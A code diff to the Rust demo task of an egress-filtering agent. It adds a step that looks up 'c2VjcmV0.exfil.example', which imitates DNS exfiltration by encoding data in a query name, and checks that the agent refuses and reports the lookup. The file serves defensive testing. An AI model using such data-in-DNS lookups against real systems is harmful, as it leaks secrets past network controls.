@@ -1,5 +1,5 @@
-//! `cargo xtask demo`: one allowed and one blocked connection, and the deny event, in a
-//! throwaway network namespace that is removed afterwards (on failure and Ctrl-C too).
+//! `cargo xtask demo`: one allowed and one blocked connection, a refused DNS lookup, and the
+//! events, in a throwaway network namespace that is removed afterwards (on failure and Ctrl-C too).
 
 use std::{
     fs::{self, OpenOptions},
@@ -21,8 +21,13 @@ const ALLOWED_PORT: u16 = 8080;
 const BLOCKED_PORT: u16 = 9090;
 /// Run under the agent inside the namespace: the blocked curl fails, and `|| true` keeps
 /// that from being the demo's exit status (the agent exits with the command's).
+/// The third step looks up a name the allowlist does not permit, the way an exfiltrating
+/// agent would encode data in a DNS query: the agent's resolver refuses it, and it reaches
+/// no server (the namespace has none anyway).
 const SCRIPT: &str = "curl -sS --max-time 3 http://127.0.0.1:8080/; \
-                      curl -sS --max-time 3 http://127.0.0.1:9090/ || true";
+                      curl -sS --max-time 3 http://127.0.0.1:9090/ || true; \
+                      getent hosts c2VjcmV0.exfil.example || echo 'lookup refused'";
+const REFUSED_NAME: &str = "c2VjcmV0.exfil.example";
 
 /// Builds the agent and runs the demo; needs root.
 pub fn run() -> Result<()> {
@@ -56,6 +61,7 @@ pub fn run() -> Result<()> {
     println!("demo: curl both under egress-agent with {ALLOWLIST}; expected:");
     println!("  allowed: 127.0.0.1:{ALLOWED_PORT} (rule allow[0] of {ALLOWLIST})");
     println!("  blocked: 127.0.0.1:{BLOCKED_PORT} -> EPERM");
+    println!("  refused: DNS lookup of {REFUSED_NAME} (data in a name) -> REFUSED");
     // nsenter, not `ip netns exec`: that also mounts a fresh sysfs over /sys, which hides
     // the cgroup v2 and bpf filesystems the agent needs (docs/KERNEL-NOTES.md).
     let status = Cmd::new("nsenter")
@@ -84,7 +90,16 @@ pub fn run() -> Result<()> {
     if !denied(&lines, BLOCKED_PORT) {
         bail!("no deny event for 127.0.0.1:{BLOCKED_PORT}");
     }
-    println!("demo: ok: {ALLOWED_PORT} answered, {BLOCKED_PORT} was denied and reported");
+    if !lines.lines().any(|l| {
+        l.contains(r#""event":"dns-refused""#)
+            && l.contains(&format!(r#""query":"{REFUSED_NAME}""#))
+    }) {
+        bail!("no dns-refused event for {REFUSED_NAME}");
+    }
+    println!(
+        "demo: ok: {ALLOWED_PORT} answered, {BLOCKED_PORT} was denied and reported, \
+         the lookup of {REFUSED_NAME} was refused and reported"
+    );
     Ok(())
 }
 
